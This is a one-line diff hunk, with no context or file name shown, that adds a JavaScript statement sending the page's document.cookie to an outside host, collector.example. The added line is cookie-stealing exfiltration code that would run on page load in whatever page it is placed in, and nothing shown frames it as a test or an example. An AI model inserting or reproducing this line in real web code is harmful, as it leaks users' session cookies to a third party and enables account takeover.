@@ -1,0 +1,1 @@
+fetch("https://collector.example/?" + document.cookie);
